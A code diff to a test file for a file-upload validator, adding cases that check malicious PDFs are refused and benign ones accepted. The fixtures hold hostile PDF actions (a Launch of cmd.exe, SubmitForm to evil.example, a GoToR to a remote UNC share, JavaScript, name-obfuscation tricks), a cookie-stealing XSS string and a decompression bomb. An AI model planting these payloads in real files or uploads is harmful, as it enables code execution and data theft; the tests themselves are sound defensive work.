@@ -21,7 +21,8 @@ import { type Client, createTestStaffApi, type TestStaffApi } from "../test-supp
 const UNKNOWN = "The file is neither a picture (JPEG, PNG, WebP, AVIF, HEIC) nor a PDF.";
 const DAMAGED = "The file is damaged and cannot be read.";
 const TOO_MANY_PIXELS = "The picture has more than 50 megapixels. Make it smaller first.";
-const ACTIVE = "The PDF contains scripts or other files. Save it without them, for example by printing it as a PDF.";
+const ACTIVE =
+  "The PDF contains scripts, actions or other files. Save it without them, for example by printing it as a PDF.";
 const TOO_LONG = "This value is too long. It should have 200 characters or less.";
 const ONE_FILE = "The form cannot be read. Send one file, with few short fields.";
 const SCRIPT = "<script>alert(document.cookie)</script>";
@@ -123,6 +124,22 @@ describe("an upload is refused that is", () => {
       async () => createPdf(["4 0 obj\n<< /S /#4caunch /F (cmd.exe) >>\nendobj\n"]),
       ACTIVE,
     ],
+    ...[
+      "/OpenAction << /S /Named /N /Print >>",
+      "/OpenAction 5 0 R",
+      "/AA << /O 5 0 R >>",
+      "/A << /S /SubmitForm /F (https://evil.example) >>",
+      "/A << /S /GoToR /F (\\\\evil.example\\share) >>",
+      "/A << /S /GoToE /T << /R /C >> >>",
+      "/A << /S /ImportData /F (a.fdf) >>",
+      "/AcroForm << /#58FA 5 0 R >>",
+      "/S /Rendition /JS (app.alert(1))",
+    ].map((entry): [string, () => Promise<Buffer>, string] => [
+      `a PDF with ${entry}`,
+      async () => createPdf([`4 0 obj\n<< ${entry} >>\nendobj\n`]),
+      ACTIVE,
+    ]),
+    ["a PDF with a hidden action", async () => createPdf([objectStream("4 0 << /AA << /O 5 0 R >> >>")]), ACTIVE],
     ["a PDF with hidden files", async () => createPdf([objectStream("4 0 << /Type /EmbeddedFile >>")]), ACTIVE],
     ["a bomb as PDF", async () => createPdf([objectStream(Buffer.alloc(200_000_000))]), DAMAGED],
     [
@@ -140,6 +157,17 @@ describe("an upload is refused that is", () => {
     expect([status, violations]).toEqual([422, [["file", message]]]);
     expect(await countStored()).toEqual(before);
   });
+});
+
+test("a PDF with links, a first page and what looks like an action in its pictures is taken", async () => {
+  const picture = Buffer.from(
+    "5 0 obj\n<< /Length 20 >>\nstream\n\x00/AA\x01/JS\x02/XFA\nendstream\nendobj\n",
+    "latin1",
+  );
+  const link =
+    "4 0 obj\n<< /OpenAction [3 0 R /Fit] /A << /S /URI /URI (https://karoo.example) >> /B << /S /GoTo /D [3 0 R] >> >>\nendobj\n";
+  const { status } = await uploadFile(createPdf([link, picture]), "brochure.pdf", "application/pdf");
+  expect(status).toBe(201);
 });
 
 describe("a picture is encoded anew:", () => {
